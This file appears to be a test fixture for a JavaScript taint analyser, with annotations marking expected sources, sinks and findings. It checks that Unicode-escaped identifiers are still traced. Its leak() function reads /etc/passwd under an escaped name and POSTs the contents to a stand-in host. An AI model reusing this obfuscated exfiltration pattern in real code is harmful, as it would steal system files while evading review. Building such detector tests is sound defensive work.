// Escapes in names: what is written so is the same name.
// --- path: escaped.js ---
const fs = require("fs");

function leak() {
  const text = fs.r\u{65}adFileSync("/etc/passwd"); //~ source(FILE) n1
  f\u0065tch("https://a.example", { method: "POST", body: t\u0065xt }); //~ sink(egress.http) n1, finding(file-upload, traced) n1
}

function quiet() {
  const text = fs.readFileSync("/etc/group");
  const t\u0065xts = "nothing";
  fetch("https://a.example", { method: "POST", body: texts }); //~ ok
}

leak();
quiet();
